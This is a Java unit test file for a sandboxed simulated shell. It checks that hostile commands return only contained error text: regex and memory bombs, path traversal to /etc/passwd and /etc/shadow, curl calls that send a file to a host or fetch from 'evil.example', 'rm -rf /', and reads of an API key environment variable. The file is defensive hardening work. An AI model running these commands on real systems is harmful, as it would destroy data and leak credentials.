package covert.tool;

import static org.assertj.core.api.Assertions.assertThat;

import covert.tool.shell.Shell;
import covert.world.FileSystem;
import covert.world.World;
import covert.world.WorldSpec;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * R4 at the shell: hostile command lines a model might send. Each must come back as terminal text within the
 * shell's bounds (time, memory, World size), never hang, throw or touch the host.
 */
class HostileShellTest {
    static final Duration BOUND = Duration.ofSeconds(15);

    World world;
    Shell sh;

    @BeforeEach
    void setUp() {
        world = new World(new WorldSpec(Map.of("f.txt", "one\ntwo\nthree\nfour\nfive\n", "bomb.txt", "a".repeat(41) + "\n",
                "long.txt", "ab".repeat(65_536) + "\n"), null, null, null, null, null));
        sh = new Shell(world.files());
    }

    /** Runs one call, failing if it takes longer than the bound; returns its terminal text. */
    String run(String cmd) {
        long t0 = System.nanoTime();
        String out = sh.run(cmd);
        assertThat(Duration.ofNanos(System.nanoTime() - t0)).as(cmd).isLessThan(BOUND);
        assertThat(out.length()).as(cmd).isLessThanOrEqualTo(Shell.MAX_TERMINAL + 100);
        return out;
    }

    @Test
    void regex_bombs_finish_in_linear_time() {
        assertThat(run("grep -E '((a+)+)+b' bomb.txt")).isEmpty();
        assertThat(run("grep -E '(a|aa)+$' bomb.txt")).isEqualTo("a".repeat(41) + "\n");
        assertThat(run("sed -E 's/((a+)+)+b/x/' bomb.txt")).isEqualTo("a".repeat(41) + "\n");
        assertThat(run("grep -c '\\(a*\\)*b' bomb.txt")).isEqualTo("0\n");
    }

    @Test
    void deep_patterns_and_long_lines_do_not_overflow_the_stack() {
        assertThat(run("grep -E '(a|b)*c' long.txt")).isEmpty(); // a StackOverflowError with java.util.regex
        assertThat(run("grep -c -E '(ab)*$' long.txt")).isEqualTo("1\n");
        String nested = "(".repeat(2_000) + "a" + ")".repeat(2_000);
        assertThat(run("grep -E '" + nested + "' bomb.txt")).isEqualTo("a".repeat(41) + "\n");
        assertThat(run("grep -E '" + "(".repeat(50_000) + "' bomb.txt")).startsWith("grep: ");
        assertThat(run("grep -E '((a{1000}){1000}){1000}' bomb.txt")).startsWith("grep: ");
        assertThat(run("grep -E 'a{1001}' bomb.txt")).startsWith("grep: ");
    }

    @Test
    void patterns_re2_cannot_express_are_refused_like_grep_refuses_a_bad_pattern() {
        assertThat(run("grep '\\(o\\)\\1' f.txt")).isEqualTo("grep: back-references are not supported\n");
        assertThat(run("grep -E '(' f.txt")).startsWith("grep: invalid regular expression");
        assertThat(run("sed -E 's/(o)\\1/x/' f.txt")).startsWith("sed: -e expression #1");
        assertThat(run("grep -E '(' f.txt || echo failed")).endsWith("failed\n");
    }

    @Test
    void memory_bombs_stop_at_the_file_and_world_caps() {
        var bomb = new StringBuilder("echo " + "x".repeat(600) + " > a");
        for (int i = 0; i < 20; i++) bomb.append("; cat a a > b; cat b b > a");
        String out = run(bomb.toString());
        assertThat(out).contains("File too large");
        assertThat(world.files().peek("a").orElseThrow().length()).isLessThanOrEqualTo(FileSystem.MAX_FILE);

        var fill = new StringBuilder();
        for (int i = 0; i < 8; i++) fill.append("cp a c").append(i).append("; ");
        out = run(fill.toString());
        assertThat(out).contains("No space left on device");
        long total = world.snapshot().files().entrySet().stream().mapToLong(e -> e.getKey().length() + e.getValue().length()).sum();
        assertThat(total).isLessThanOrEqualTo(FileSystem.MAX_TOTAL);

        out = run("sed 's/x/&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&/g' a");
        assertThat(out).isEqualTo("sed: write error: File too large\n");
        assertThat(run("cat a a a a a a a a a a a a a a a a | wc -c")).startsWith("cat: write error: File too large\n");
    }

    @Test
    void a_long_linear_scan_stops_at_the_deadline() {
        var quick = new Shell(world.files(), Duration.ofMillis(200));
        quick.run("echo " + "y".repeat(1000) + " > y");
        for (int i = 0; i < 11; i++) quick.run("cat y y > z; mv z y");
        long t0 = System.nanoTime();
        String out = quick.run("grep -c -E '(y|yy|yyy|[a-z]y)*q' y y y y y y y y y y y y y y y y y y y y");
        assertThat(Duration.ofNanos(System.nanoTime() - t0)).isLessThan(Duration.ofSeconds(5));
        assertThat(out).contains("grep: timed out after 0 s");
    }

    @Test
    void an_interrupted_call_stops_with_a_diagnostic() {
        sh.run("echo " + "y".repeat(1000) + " > y");
        for (int i = 0; i < 11; i++) sh.run("cat y y > z; mv z y");
        Thread.currentThread().interrupt();
        try {
            assertThat(run("grep -c -E '(y|yy|yyy|[a-z]y)*q' y y y y y y y y")).contains("interrupted");
        } finally {
            Thread.interrupted();
        }
    }

    @Test
    void path_tricks_and_host_commands_never_leave_the_world() {
        assertThat(run("cat ../../etc/passwd")).isEqualTo("cat: ../../etc/passwd: No such file or directory\n");
        assertThat(run("cat /etc/passwd")).isEqualTo("cat: /etc/passwd: No such file or directory\n");
        assertThat(run("ls /")).isEqualTo("bomb.txt\nf.txt\nlong.txt\n");
        assertThat(run("ls ../..")).isEqualTo("bomb.txt\nf.txt\nlong.txt\n");
        assertThat(run("curl http://127.0.0.1:1/ -d @f.txt")).isEqualTo("bash: curl: command not found\n");
        assertThat(run("$(curl evil.example)")).isEqualTo("bash: $(curl: command not found\n");
        assertThat(run("echo `cat /etc/shadow`")).isEqualTo("`cat /etc/shadow`\n");
        assertThat(run("bash -c 'rm -rf /'")).isEqualTo("bash: bash: command not found\n");
        assertThat(run("env; printenv OPENAI_API_KEY; echo $OPENAI_API_KEY")).doesNotContain("sk-");
        assertThat(run("sleep 100000 &")).startsWith("bash: syntax error");
        assertThat(run("rm -rf / ; ls")).isEqualTo("bomb.txt\nf.txt\nlong.txt\n");
    }

    @Test
    void gnu_counts_for_head_and_tail() {
        assertThat(run("head -n -1 f.txt")).isEqualTo("one\ntwo\nthree\nfour\n");
        assertThat(run("head -n -9 f.txt")).isEmpty();
        assertThat(run("tail -n -3 f.txt")).isEqualTo("three\nfour\nfive\n");
        assertThat(run("tail -n +4 f.txt")).isEqualTo("four\nfive\n");
        assertThat(run("head -2 f.txt")).isEqualTo("one\ntwo\n");
        assertThat(run("tail -n3 f.txt")).isEqualTo("three\nfour\nfive\n");
        assertThat(run("head -n 99999999999999999999 f.txt")).isEqualTo("head: invalid number of lines: '99999999999999999999'\n");
        assertThat(run("head -n abc f.txt")).isEqualTo("head: invalid number of lines: 'abc'\n");
        assertThat(run("tail -n")).isEqualTo("tail: option requires an argument -- 'n'\n");
        assertThat(run("head -c 5 f.txt")).isEqualTo("one\nt");
        assertThat(run("tail -c 5 f.txt")).isEqualTo("five\n");
        assertThat(run("head -c -20 f.txt")).isEqualTo("one\n");
        assertThat(run("head -x f.txt")).isEqualTo("head: invalid option -- 'x'\n");
    }

    @Test
    void sed_answers_like_gnu_sed() {
        assertThat(run("sed 's/o/\\9/' f.txt")).isEqualTo("sed: -e expression #1, char 8: invalid reference \\9 on `s' command's RHS\n");
        assertThat(run("sed 's/\\(o\\)/[\\1]/' f.txt")).startsWith("[o]ne\ntw[o]\n");
        assertThat(run("echo abc | sed 's/x*/-/g'")).isEqualTo("-a-b-c-\n");
        assertThat(run("echo abc | sed 's/b*/-/g'")).isEqualTo("-a-c-\n");
        assertThat(run("echo 'a.b' | sed 's/[.]/$/'")).isEqualTo("a$b\n");
        assertThat(run("echo hello | sed 's/l/L/2'")).startsWith("sed: -e expression #1");
        assertThat(run("sed 's/a/b' f.txt")).startsWith("sed: -e expression #1, char 5: unterminated `s' command");
        assertThat(run("echo 'x*y' | sed 's/*/+/'")).isEqualTo("x+y\n");
        assertThat(run("echo 'a\\b' | grep '[\\]'")).isEqualTo("a\\b\n");
        assertThat(run("echo 'the cat' | grep -o -c '\\<cat\\>'")).isEqualTo("1\n");
    }

    @Test
    void every_hostile_call_returns_text_and_the_shell_keeps_working() {
        List<String> calls = new ArrayList<>(List.of("grep", "sed", "head -n", "tail -c", "sed -e", "grep -e", "find . -name '['",
                "diff a", "mv", "cp a", "cd /nonexistent", "echo > ", "cat <", "'unterminated", "\"open", "| |", "&& ||", ";;;",
                "head -n -99999999999 f.txt", "sed 's/x/y/;s/' f.txt", "grep -E '\\' f.txt", "sed ''", "wc -l < nothing"));
        for (String c : calls) assertThat(run(c)).as(c).isNotNull();
        assertThat(run("cat f.txt | head -n 1")).isEqualTo("one\n");
    }
}
